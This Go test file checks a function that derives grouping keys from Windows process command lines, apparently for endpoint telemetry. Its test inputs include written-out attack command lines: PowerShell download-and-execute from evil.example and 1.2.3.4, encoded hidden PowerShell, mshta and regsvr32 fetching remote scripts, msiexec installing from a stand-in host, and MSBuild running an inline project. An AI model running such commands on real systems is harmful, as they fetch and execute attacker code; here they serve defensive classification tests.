package program

import (
	"strings"
	"testing"
	"unicode/utf8"

	"pgregory.net/rapid"
)

const (
	powershellImage = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	pwshImage       = `C:\Program Files\PowerShell\7\pwsh.exe`
	pythonImage     = `C:\Program Files\Python312\python.exe`
	nodeImage       = `C:\Program Files\nodejs\node.exe`
	javaImage       = `C:\Program Files\Java\jdk-21\bin\java.exe`
	webViewImage    = `C:\Program Files (x86)\Microsoft\EdgeWebView\Application\131.0.2903.70\msedgewebview2.exe`
)

// system returns the path of a program of Windows.
func system(file string) string { return `C:\Windows\System32\` + file }

func TestKey(t *testing.T) {
	msbuild := `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe`
	for _, c := range []struct {
		kind, image string
		lines       map[string]string // command line to what is hosted
	}{
		{"service", system("svchost.exe"), map[string]string{
			``:                                ``,
			`-`:                               ``,
			`C:\Windows\system32\svchost.exe`: ``,
			`C:\Windows\system32\svchost.exe -k netsvcs -p -s wuauserv`:                           `svc:wuauserv`,
			`C:\WINDOWS\System32\svchost.exe -k LocalSystemNetworkRestricted -p -s WdiSystemHost`: `svc:wdisystemhost`,
			`c:\windows\system32\svchost.exe -k unistacksvcgroup -s CDPUserSvc_3f2a1`:             `svc:cdpusersvc`,
			`"C:\Windows\system32\svchost.exe" -K NetSvcs -S BITS`:                                `svc:bits`,
			`C:\Windows\system32\svchost.exe -k DcomLaunch -p`:                                    `svcgroup:dcomlaunch`,
			`C:\Windows\system32\svchost.exe -k netsvcs`:                                          `svcgroup:netsvcs`,
			`svchost.exe`: ``,
		}},
		{"service elsewhere", `C:\Users\bob\svchost.exe`, map[string]string{`svchost.exe -k netsvcs -p -s wuauserv`: ``}},
		{"Windows PowerShell", powershellImage, map[string]string{
			``:           ``,
			`powershell`: `interactive`,
			`"C:\windows\System32\WindowsPowerShell\v1.0\powershell.exe" -noP -sta -w 1 -enc SQBmACgAJABQAFMA`: `encoded`,
			`powershell.exe -e SQBmAA==`:                                                                     `encoded`,
			`powershell.exe -ec SQBmAA==`:                                                                    `encoded`,
			`powershell.exe /EncodedC SQBmAA==`:                                                              `encoded`,
			"powershell.exe \u2013EnCoD SQBmAA==":                                                            `encoded`,
			`powershell.exe -version 2 -nop -encodedcommand SQBmAA==`:                                        `encoded`,
			`powershell.exe -Version 5.1 -s -NoLogo -NoProfile`:                                              `server`,
			`powershell.exe -NoLogo -NoExit`:                                                                 `interactive`,
			`powershell.exe -ExecutionPolicy Restricted -Command Write-Host 'Final result: 1';`:              `inline`,
			`powershell -c "iex (iwr https://evil.example/a.ps1)"`:                                           `inline`,
			`powershell.exe -nop -w hidden IEX(New-Object Net.WebClient).DownloadString('http://1.2.3.4/a')`: `inline`,
			`powershell.exe -NonInteractive -ep bypass -File "C:\Users\Bob\Documents\back up.ps1" -Full`:     `script:%user%\documents\back up.ps1`,
			`powershell.exe -f .\deploy.ps1`:                                                                 `script:deploy.ps1`,
			`powershell.exe -WindowStyle Hidden -InputFormat None -fi C:\Temp\x.ps1`:                         `script:%temp%\x.ps1`,
			`powershell.exe C:\Scripts\Inventory-1.2.3.ps1 -Site 4`:                                          `script:\scripts\inventory-{version}.ps1`,
			`powershell.exe -Command "& 'C:\Program Files\Agent\check.ps1' -Mode Quick"`:                     `script:%programfiles%\agent\check.ps1`,
			`powershell.exe "& 'C:\Windows\CCM\SystemTemp\0a1b2c3d4e5f60718293.ps1'"`:                        `script:%windir%\ccm\systemtemp\{random}.ps1`,
			`powershell.exe -Command "& 'C:\a.ps1'; iwr http://evil.example"`:                                `inline`,
			`powershell.exe -Command & .\a.ps1 (iwr http://evil.example)`:                                    `inline`,
			`powershell.exe -Command -`:                                                                      `stdin`,
			`powershell.exe -File -`:                                                                         `stdin`,
			`powershell.exe -File \\files\netlogon\logon.ps1`:                                                `script:\\files\netlogon\logon.ps1`,
			`powershell.exe -c ` + strings.Repeat("x", 3000) + ` a.ps1`:                                      `inline`,
			`powershell.exe -c a.ps1`:                                                                        `script:a.ps1`,
			`powershell.exe -c '.\a b.ps1' -x $true`:                                                         `script:a b.ps1`,
			`powershell.exe -nosuch`:                                                                         `inline`,
		}},
		{"PowerShell", pwshImage, map[string]string{
			`"C:\Program Files\PowerShell\7\pwsh.exe" -WorkingDirectory ~`:    `interactive`,
			`C:\Program Files\PowerShell\7\pwsh.exe -nologo C:\Tools\a.ps1 b`: `script:\tools\a.ps1`,
			`pwsh ./build.ps1 -Target all`:                                    `script:build.ps1`,
			`pwsh -wd C:\x -cwa "param($a) $a" 1`:                             `inline`,
			`pwsh -CustomPipeName p -SettingsFile s.json -c "gci"`:            `inline`,
			`pwsh -sshs -NoLogo`:                                              `server`,
		}},
		{"command interpreter", system("cmd.exe"), map[string]string{
			``:                               ``,
			`cmd.exe`:                        `interactive`,
			`"C:\Windows\system32\cmd.exe" `: `interactive`,
			`cmd.exe /q`:                     `interactive`,
			`cmd.exe /c C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\Windows\Tasks\pshell.xml`: `command:%windir%\microsoft.net\framework64\v{version}\msbuild.exe`,
			`"C:\Windows\System32\cmd.exe" /c echo ---- >> config\WindowsFirewallConfig.txt`:                     `command:echo`,
			`"C:\Windows\System32\cmd.exe" /c reg export "HKLM\SOFTWARE\Policies" Reg\x.txt /y`:                  `command:reg`,
			`cmd /c reg.exe query HKLM`:                                       `command:reg`,
			`C:\Windows\system32\cmd.exe /d /s /c "npm run build"`:            `command:npm`,
			`cmd.exe /c ""C:\Program Files\Agent\run me.bat" --quiet"`:        `command:%programfiles%\agent\run me.bat`,
			`cmd.exe /c "C:\Users\bob\AppData\Local\Temp\is-AB12C.tmp\x.cmd"`: `command:%temp%\{random}\x.cmd`,
			`cmd.exe /Q/V:ON/C whoami&ipconfig`:                               `command:whoami`,
			`cmd/c "w^ho^ami"`:                                                `command:whoami`,
			`CMD /C SCHTASKS /create /F /tn \x /tr "C:\y.exe"`:                `command:schtasks`,
			`cmd /c @(echo.hello)`:                                            `command:echo`,
			`cmd.exe /k "%ProgramFiles%\VS\VsDevCmd.bat"`:                     `command:%programfiles%\vs\vsdevcmd.bat`,
		}},
		{"Windows Script Host", system("cscript.exe"), map[string]string{
			`C:\Windows\system32\cscript.exe C:\Windows\system32\gatherNetworkInfo.vbs`: `script:%system%\gathernetworkinfo.vbs`,
			`"C:\windows\system32\cscript.exe" /nologo "MonitorKnowledgeDiscovery.vbs"`: `script:monitorknowledgediscovery.vbs`,
			`cscript //E:jscript //B C:\Users\Public\a.txt //x`:                         `script:%public%\a.txt`,
			`cscript.exe //nologo`: ``,
		}},
		{"Windows Script Host, windows", system("wscript.exe"), map[string]string{
			`"C:\Windows\System32\WScript.exe" "C:\Users\bob\AppData\Local\Temp\Temp1_doc.zip\invoice.js" `: `script:%temp%\temp1_doc.zip\invoice.js`,
		}},
		{"HTML application", system("mshta.exe"), map[string]string{
			`mshta.exe`: ``,
			`mshta http://user:pw@cdn.evil.co.uk:8080/a/b.hta?token=1`:                                                 `url:evil.co.uk`,
			`"C:\Windows\System32\mshta.exe" HTTPS://203.0.113.9/x`:                                                    `url:203.0.113.9`,
			`mshta.exe https:\\[2001:db8::1]\x`:                                                                        `url:2001:db8::1`,
			`mshta vbscript:Close(Execute("GetObject(""script:https://evil.example/a"")"))`:                            `inline`,
			`mshta.exe "javascript:a=new ActiveXObject('WScript.Shell');close()"`:                                      `inline`,
			`"C:\Windows\SysWOW64\mshta.exe" "C:\Program Files\HP\Setup\a.hta" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}`: `script:%programfiles%\hp\setup\a.hta`,
			`mshta file:///C:/Users/bob/a.hta`:                                                                         `script:%user%\a.hta`,
			`mshta file://files/share/a.hta`:                                                                           `script:\\files\share\a.hta`,
		}},
		{"library", system("rundll32.exe"), map[string]string{
			`rundll32.exe`: ``,
			`rundll32 C:\Windows\system32\GeneralTel.dll,RunInUserCxt bnORaBFA2UyZsVDk.1.1.2 {54002BDE-E024-4FC7-9ED2-992F1DB9D2AC}`: `dll:%system%\generaltel.dll,runinusercxt`,
			`rundll32.exe C:\Users\PEDRO~1.GUS\AppData\Local\Temp\rtcpef.dll,a /p:rtcpef`:                                            `dll:%temp%\rtcpef.dll,a`,
			`"C:\Windows\System32\rundll32.exe" "C:\Program Files\A b\c.dll",Start`:                                                  `dll:%programfiles%\a b\c.dll,start`,
			`rundll32.exe "C:\Program Files\A b\c.dll,Start" x`:                                                                      `dll:%programfiles%\a b\c.dll,start`,
			`rundll32.exe shell32.dll,Control_RunDLL desk.cpl,,0`:                                                                    `dll:shell32.dll,control_rundll`,
			`RUNDLL32.EXE zipfldr.dll, RouteTheCall x`:                                                                               `dll:zipfldr.dll,routethecall`,
			`rundll32.exe x.dll #1`:                                                                `dll:x.dll,#1`,
			`rundll32.exe \\files@SSL\dav\x.dll,Run`:                                               `dll:\\files@ssl\dav\x.dll,run`,
			`rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1)`:                    `inline`,
			`C:\Windows\System32\rundll32.exe -localserver {22D8C27B-47A1-48D1-AD08-7DA7ABD79617}`: `clsid:{22d8c27b-47a1-48d1-ad08-7da7abd79617}`,
			`rundll32.exe -sta x`:                                                                  ``,
		}},
		{"registered library", system("regsvr32.exe"), map[string]string{
			`regsvr32 /s /n /u /i:http://raw.evil.example/a.sct scrobj.dll`: `dll:scrobj.dll,url:evil.example`,
			`regsvr32.exe /s "C:\Program Files\A\b.ocx"`:                    `dll:%programfiles%\a\b.ocx`,
			`regsvr32.exe -s /i:C:\ProgramData\x.sct scrobj.dll`:            `dll:scrobj.dll,%programdata%\x.sct`,
			`regsvr32.exe /n /i:user shell32.dll`:                           `dll:shell32.dll`,
			`regsvr32`:                                                      ``,
		}},
		{"installer", system("msiexec.exe"), map[string]string{
			`C:\Windows\system32\msiexec.exe /V`:                                            `svc:msiserver`,
			`C:\Windows\syswow64\MsiExec.exe -Embedding 0A1B2C3D4E5F60718293A4B5C6D7E8F9 C`: ``,
			`msiexec /i "C:\Users\bob\Downloads\Tool-3.2.1.msi" /qn`:                        `package:%user%\downloads\tool-{version}.msi`,
			`msiexec.exe /quiet /norestart /l*v C:\x.log /package a.msi`:                    `package:a.msi`,
			`msiexec /q /i https://dl.evil.example/x.msi`:                                   `url:evil.example`,
			`msiexec.exe /X{0D3E9E15-DE7A-300B-96F1-B4AF12B96488} /passive`:                 `package:{0d3e9e15-de7a-300b-96f1-b4af12b96488}`,
			`MsiExec.exe /I {0D3E9E15-DE7A-300B-96F1-B4AF12B96488}`:                         `package:{0d3e9e15-de7a-300b-96f1-b4af12b96488}`,
			`msiexec /fa"C:\My Files\x.msi"`:                                                `package:\my files\x.msi`,
			`msiexec /passive /promptrestart`:                                               ``,
		}},
		{"COM surrogate", system("dllhost.exe"), map[string]string{
			`C:\Windows\system32\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}`: `clsid:{3eb3c877-1f16-487c-9050-104dbcd66683}`,
			`dllhost.exe /Processid:x`: ``,
			`dllhost.exe`:              ``,
		}},
		{"nothing", system("wbem\\wmiprvse.exe"), map[string]string{`C:\windows\system32\wbem\wmiprvse.exe -secured -Embedding`: ``}},
		{"nothing either", system("taskhostw.exe"), map[string]string{`taskhostw.exe NGCKeyPregen`: ``}},
		{"build", msbuild, map[string]string{
			`C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe  C:\Windows\Tasks\pshell.xml`: `project:%windir%\tasks\pshell.xml`,
			`MSBuild.exe /nologo /p:Configuration=Release -m app\App.csproj`:                           `project:app\app.csproj`,
			`MSBuild.exe @build.rsp /nologo`:                                                           `response:build.rsp`,
			`MSBuild.exe /nodemode:1 /nodeReuse:true`:                                                  ``,
		}},
		{"assembly", `C:\Windows\Microsoft.NET\Framework\v4.0.30319\InstallUtil.exe`, map[string]string{
			`InstallUtil.exe`: ``,
			`InstallUtil.exe /logfile= /LogToConsole=false /U C:\Users\bob\a.dll`: `assembly:%user%\a.dll`,
		}},
		{"dotnet", `C:\Program Files\dotnet\dotnet.exe`, map[string]string{
			`dotnet C:\apps\svc\Svc.dll --urls http://localhost`:             `assembly:\apps\svc\svc.dll`,
			`dotnet exec --depsfile a.json --runtimeconfig b.json Tests.DLL`: `assembly:tests.dll`,
			`dotnet build -c Release`:                                        `command:build`,
			`dotnet --info`:                                                  ``,
		}},
		{"Python", pythonImage, map[string]string{
			`python`:           `interactive`,
			`python -`:         `stdin`,
			`python --version`: ``,
			`"C:\Program Files\Python312\python.exe" -u C:\Users\bob\agent\main.py --port 1`: `script:%user%\agent\main.py`,
			`C:\Program Files\Python312\python.exe -W ignore -X dev tool.py`:                 `script:tool.py`,
			`python -Bc "import os"`:                     `inline`,
			`python -m http.server 8000`:                 `module:http.server`,
			`python.exe -Im pip install x`:               `module:pip`,
			`python -mvenv x`:                            `module:venv`,
			`python --check-hash-based-pycs always a.py`: `script:a.py`,
		}},
		{"Python launcher", `C:\Windows\py.exe`, map[string]string{
			`py -3.11 -m pytest`:                  `module:pytest`,
			`py -V:3.12 C:\x\job.py`:              `script:\x\job.py`,
			`"C:\Windows\py.exe" "D:\x\job.pyw" `: `script:\x\job.pyw`,
		}},
		{"Python with a version", `C:\Python\python3.11.exe`, map[string]string{`python3.11 -c 1`: `inline`}},
		{"Node.js", nodeImage, map[string]string{
			`node`:                   `interactive`,
			`node -e "require('x')"`: `inline`,
			`node -pe 1`:             `inline`,
			`node --eval=1`:          `inline`,
			`C:\Program Files\nodejs\node.exe C:\Users\bob\AppData\Roaming\npm\node_modules\x\cli.js run`: `script:%appdata%\npm\node_modules\x\cli.js`,
			`node --max-old-space-size=4096 -r dotenv/config --import tsx server.js`:                      `script:server.js`,
			`node --inspect -- -odd.js`: `script:-odd.js`,
			`node -v`:                   ``,
		}},
		{"Java", javaImage, map[string]string{
			`java -Xmx1g -Dx=y -jar "C:\Program Files\App\app-2.3.4.jar" --x`: `jar:%programfiles%\app\app-{version}.jar`,
			`java -cp C:\a.jar;C:\b.jar com.example.Main arg`:                 `main:com.example.main`,
			`java --module-path mods -m org.app/org.app.Main`:                 `main:org.app/org.app.main`,
			`java --module=org.app/org.app.Main`:                              `main:org.app/org.app.main`,
			`java @args.txt`:                                                  `response:args.txt`,
			`java @opts -jar x.jar`:                                           `jar:x.jar`,
			`java Hello.java`:                                                 `script:hello.java`,
			`java -version`:                                                   ``,
		}},
		{"Perl", `C:\Strawberry\perl\bin\perl.exe`, map[string]string{
			`perl -w C:\x\a.pl`: `script:\x\a.pl`, `perl -lane "print"`: `inline`, `perl -I lib -MFoo=bar a.pl`: `script:a.pl`, `perl -0777ne 1`: `inline`,
		}},
		{"Ruby", `C:\Ruby\bin\ruby.exe`, map[string]string{
			`ruby -W0 -rjson -I lib a.rb`: `script:a.rb`, `ruby -e "puts 1"`: `inline`, `ruby --encoding utf-8 b.rb`: `script:b.rb`,
		}},
		{"PHP", `C:\php\php.exe`, map[string]string{
			`php -d memory_limit=1 -f C:\www\a.php`: `script:\www\a.php`, `php -r "echo 1;"`: `inline`, `php artisan serve`: `script:artisan`,
		}},
		{"AutoIt", `C:\Temp\AutoIt3.exe`, map[string]string{`AutoIt3.exe /ErrorStdOut C:\Temp\script.a3x`: `script:%temp%\script.a3x`, `AutoIt3.exe`: ``}},
		{"Tcl", `C:\tcl\bin\tclsh86.exe`, map[string]string{`tclsh86 a.tcl`: `script:a.tcl`}},
		{"Electron", `C:\dev\node_modules\electron\dist\electron.exe`, map[string]string{
			`electron.exe C:\Users\bob\app --x`:                                    `app:%user%\app`,
			`electron.exe --inspect=1 -r x .`:                                      ``,
			`electron.exe --type=renderer --app-path="C:\Users\bob\app" --lang=en`: `app:%user%\app`,
			`electron.exe --type=gpu-process`:                                      ``,
		}},
		{"NW.js", `C:\dev\nw.exe`, map[string]string{`nw.exe --nwapp=C:\x\pack.nw`: `app:\x\pack.nw`}},
		{"an application with its own Electron", `C:\Users\bob\AppData\Local\slack\app-4.41.105\slack.exe`, map[string]string{
			`"C:\Users\bob\AppData\Local\slack\app-4.41.105\slack.exe" --type=utility --utility-sub-type=network.mojom.NetworkService`: ``,
		}},
		{"a browser", `C:\Program Files\Google\Chrome\Application\chrome.exe`, map[string]string{`chrome.exe --type=renderer C:\x.js`: ``}},
		{"unknown", ``, map[string]string{`powershell.exe -enc x`: ``}},
	} {
		t.Run(c.kind, func(t *testing.T) {
			for line, hosted := range c.lines {
				want := Template(c.image)
				if hosted != "" {
					want += " [" + hosted + "]"
				}
				if got := Key(Evidence{Image: c.image, CommandLine: line}); got != want {
					t.Errorf("Key of %s\n got %s\nwant %s", line, got, want)
				}
			}
		})
	}
}

func TestKeyOfWebView(t *testing.T) {
	const teams = `"` + webViewImage + `" --embedded-browser-webview=1 --webview-exe-name=ms-teams.exe --webview-exe-version=24295.605 ` +
		`--user-data-dir="C:\Users\bob\AppData\Local\Packages\MSTeams_8wekyb3d8bbwe\LocalCache\Microsoft\MSTeams\EBWebView" --noerrdialogs`
	for _, c := range []struct{ name, line, parent, parentLine, want string }{
		{"application", teams, `C:\Program Files\WindowsApps\MSTeams_24295_x64__8wekyb3d8bbwe\ms-teams.exe`, ``, `app:ms-teams.exe`},
		{"network", teams + ` --type=utility --utility-sub-type=network.mojom.NetworkService`, webViewImage, teams, `app:ms-teams.exe`},
		{
			"crash handler", `msedgewebview2.exe --type=crashpad-handler --user-data-dir=C:\Users\bob\x\EBWebView /prefetch:4`,
			webViewImage, teams, `app:ms-teams.exe`,
		},
		{"data folder", `msedgewebview2.exe --user-data-dir="C:\Users\bob\AppData\Local\Widgets\EBWebView"`, ``, ``, `app:%localappdata%\widgets`},
		{"data folder that WebView2 names", `msedgewebview2.exe --user-data-dir=C:\Tools\Tool.exe.WebView2\EBWebView`, ``, ``, `app:tool.exe`},
		{"parent", `msedgewebview2.exe --lang=en`, `C:\Tools\Tool.exe`, ``, `app:tool.exe`},
		{"nothing", `msedgewebview2.exe --lang=en`, ``, ``, ``},
		{"the command line is unknown", ``, `C:\Tools\Tool.exe`, ``, ``},
		{"a part whose application nobody tells", `msedgewebview2.exe --type=gpu-process`, webViewImage, ``, ``},
		{"a parent that is another", `msedgewebview2.exe --type=gpu-process`, `C:\Tools\Tool.exe`, teams, ``},
	} {
		want := Template(webViewImage)
		if c.want != "" {
			want += " [" + c.want + "]"
		}
		e := Evidence{Image: webViewImage, CommandLine: c.line, ParentImage: c.parent, ParentCommandLine: c.parentLine}
		if got := Key(e); got != want {
			t.Errorf("%s: %s, want %s", c.name, got, want)
		}
	}
	e := Evidence{
		Image: `C:\e\electron.exe`, CommandLine: `electron.exe --type=utility`,
		ParentImage: `c:\E\Electron.exe`, ParentCommandLine: `electron.exe C:\Users\eve\app`,
	}
	if got, want := Key(e), `\e\electron.exe [app:%user%\app]`; got != want {
		t.Errorf("Key of a part of Electron is %s, want %s", got, want)
	}
}

func TestKeyIsBounded(t *testing.T) {
	key := func(script string) string { return Key(Evidence{Image: nodeImage, CommandLine: "node " + script}) }
	base := Template(nodeImage)
	a, b := key(strings.Repeat("é", 500)+"a.js"), key(strings.Repeat("é", 500)+"b.js")
	if a == b {
		t.Error("two long scripts have one key")
	}
	for _, k := range []string{a, b} {
		if suffix := strings.TrimPrefix(k, base+" "); len(suffix) > 200 || !utf8.ValidString(suffix) {
			t.Errorf("a suffix of %d bytes, or not UTF-8: %q", len(suffix), suffix)
		}
	}
	if got := key(strings.Repeat("-x ", 70) + "a.js"); got != base {
		t.Errorf("a script beyond the bound of arguments gives %s", got)
	}
	if got := key("-r " + strings.Repeat("x", maxCommandLine) + " a.js"); got != base {
		t.Errorf("a script beyond the bound of bytes gives %s", got)
	}
}

// commandLine draws command lines of the pieces that hosts look at.
func commandLine() *rapid.Generator[string] {
	piece := rapid.SampledFrom([]string{
		` `, ` `, ` `, "\t", `"`, `""`, `\`, `\\"`, `/`, `-`, `--`, `=`, `,`, `:`, `;`, `&`, `@`, `(`, `^`, `'`, `.`, `%`,
		`-k `, `-s `, `/c `, `/i:`, `-enc `, `-File `, `-Command `, `-m `, `-jar `, `--type=`, `--user-data-dir=`, `--webview-exe-name=`,
		`C:\Users\bob\`, `\\x\y\`, `http://`, `file://`, `javascript:`, `x.ps1`, `x.dll`, `a.b.example.co.uk`, `10.0.0.1:8`, `[::1]`,
		`{3eb3c877-1f16-487c-9050-104dbcd66683}`, `/processid:`, `1.2.3`, `É`, `İ`, "\u2013", "\xff", "\x00", "\n", `netsvcs`, `cmd`, `.exe`,
	})
	return rapid.OneOf(
		rapid.Map(rapid.SliceOfN(piece, 0, 24), func(p []string) string { return "x.exe " + strings.Join(p, "") }),
		rapid.String(),
	)
}

// hostImage draws the image of a host.
func hostImage() *rapid.Generator[string] {
	return rapid.SampledFrom([]string{
		system("svchost.exe"), system("cmd.exe"), system("rundll32.exe"), system("regsvr32.exe"), system("mshta.exe"), system("msiexec.exe"),
		system("wscript.exe"), system("dllhost.exe"), powershellImage, pwshImage, pythonImage, nodeImage, javaImage, webViewImage,
		`C:\p\php.exe`, `C:\p\perl.exe`, `C:\e\electron.exe`, `C:\m\msbuild.exe`, `C:\d\dotnet.exe`, `C:\a\autoit3.exe`,
	})
}

func TestEvidenceOnlyAddsToTheTemplate(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		e := Evidence{Image: rapid.OneOf(hostImage(), hostilePath()).Draw(t, "image")}
		base := Key(e)
		if base != Template(e.Image) {
			t.Fatalf("Key of the image alone is %q", base)
		}
		e.OriginalName = rapid.String().Draw(t, "original")
		e.Product, e.Company = e.OriginalName, e.OriginalName
		e.ParentImage = rapid.OneOf(hostImage(), rapid.Just(e.Image)).Draw(t, "parent")
		e.ParentCommandLine = commandLine().Draw(t, "parent's line")
		if got := Key(e); got != base {
			t.Fatalf("Key without a command line is %q, want %q", got, base)
		}
		e.CommandLine = commandLine().Draw(t, "line")
		suffix, ok := strings.CutPrefix(Key(e), base)
		if !ok {
			t.Fatalf("Key is %q, want %q and more", Key(e), base)
		}
		if suffix != "" && (!strings.HasPrefix(suffix, " [") || !strings.HasSuffix(suffix, "]") || len(suffix) > 201 || !utf8.ValidString(suffix)) {
			t.Fatalf("suffix %q", suffix)
		}
	})
}

func TestNothingHostedIsTheTemplate(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		image := hostilePath().Draw(t, "image")
		_, file := cut(Template(image))
		if hostNamed(file) != nil {
			return
		}
		e := Evidence{Image: image, CommandLine: commandLine().Draw(t, "line"), ParentImage: webViewImage}
		if got, want := Key(e), Template(image); got != want {
			t.Fatalf("Key is %q, want %q", got, want)
		}
	})
}

func TestKeyIgnoresCaseAndDrive(t *testing.T) {
	// Only Windows' own hosts take their options in any case.
	windows := rapid.SampledFrom([]string{
		system("svchost.exe"), system("cmd.exe"), system("rundll32.exe"), system("regsvr32.exe"), system("mshta.exe"), system("msiexec.exe"),
		system("wscript.exe"), system("dllhost.exe"), powershellImage, pwshImage, `C:\m\msbuild.exe`,
	})
	upper := func(s string) string {
		return strings.Map(func(r rune) rune {
			if 'a' <= r && r <= 'z' {
				return r - 32
			}
			return r
		}, s)
	}
	rapid.Check(t, func(t *rapid.T) {
		e := Evidence{Image: windows.Draw(t, "image"), CommandLine: commandLine().Draw(t, "line")}
		same := Evidence{Image: upper(e.Image), CommandLine: upper(e.CommandLine)}
		if got, want := Key(same), Key(e); got != want {
			t.Fatalf("in capitals %q, else %q", got, want)
		}
	})
	rapid.Check(t, func(t *rapid.T) {
		image := windows.Draw(t, "image")
		verb := rapid.SampledFrom([]string{``, `/c `, `-File `, `/i `}).Draw(t, "verb")
		below := rapid.StringMatching(`[a-z0-9.\\]{0,20}`).Draw(t, "path")
		on := func(volume, drive string) string {
			return Key(Evidence{Image: volume + image[2:], CommandLine: `x.exe ` + verb + drive + `\` + below})
		}
		if got, want := on(`\device\harddiskvolume3`, `d:`), on(`C:`, `C:`); got != want {
			t.Fatalf("on another drive %q, else %q", got, want)
		}
	})
}

func FuzzKey(f *testing.F) {
	f.Add(powershellImage, `powershell -c "& 'C:\a b.ps1' \"x\""`, ``)
	f.Add(system("rundll32.exe"), `rundll32 "C:\a b.dll",#1`, ``)
	f.Add(webViewImage, `x --type=utility`, `x --webview-exe-name="a b"`)
	f.Add(nodeImage, `node --import x -r "y`, ``)
	f.Add(pythonImage, "python -\x99", ``)
	f.Fuzz(func(t *testing.T, image, line, parentLine string) {
		e := Evidence{Image: image, CommandLine: line, ParentImage: image, ParentCommandLine: parentLine}
		suffix, ok := strings.CutPrefix(Key(e), Template(image))
		if !ok || len(suffix) > 201 || !utf8.ValidString(suffix) {
			t.Fatalf("Key(%+v) = %q", e, Key(e))
		}
	})
}

func BenchmarkKey(b *testing.B) {
	for name, e := range map[string]Evidence{
		"service":    {Image: system("svchost.exe"), CommandLine: `C:\Windows\system32\svchost.exe -k netsvcs -p -s wuauserv`},
		"encoded":    {Image: powershellImage, CommandLine: `powershell.exe -nop -w hidden -enc ` + strings.Repeat("SQBm", 2000)},
		"script":     {Image: nodeImage, CommandLine: `"C:\Program Files\nodejs\node.exe" --no-warnings C:\Users\bob\agent\main.js`},
		"nothing":    {Image: `C:\Program Files\Google\Chrome\Application\chrome.exe`, CommandLine: `chrome.exe --type=renderer`},
		"webview":    {Image: webViewImage, CommandLine: `"x" --type=utility --lang=en --user-data-dir="C:\Users\bob\x" --webview-exe-name=t.exe --a --b --c`},
		"no command": {Image: nodeImage},
	} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Key(e)
			}
		})
	}
}
